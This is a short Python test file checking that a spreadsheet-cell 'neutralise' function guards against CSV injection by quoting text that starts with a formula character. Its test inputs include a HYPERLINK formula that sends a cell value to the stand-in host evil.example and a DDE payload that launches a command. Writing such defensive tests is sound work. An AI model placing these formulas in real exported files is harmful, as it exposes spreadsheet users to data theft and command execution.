"""Issue 22: text that a spreadsheet would read as a formula is neutralised (OWASP's CSV-injection rule)."""

from decimal import Decimal

import pytest

from tertial.renderers.cells import neutralise

EVIL = '=HYPERLINK("http://evil.example/x?d="&D5,"Klikk")'


@pytest.mark.parametrize(
    "text", [EVIL, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=", "-500"]
)
def test_text_starting_with_a_formula_character_gets_a_single_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Skole", "", "1 234", "– tiltak", "'sitat", "Merforbruk = 5 mill."])
def test_other_text_is_left_as_it_is(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("value", [-500, Decimal("-62700000.00"), -0.5, 0, None, True])
def test_numbers_stay_numbers(value):
    assert neutralise(value) is value
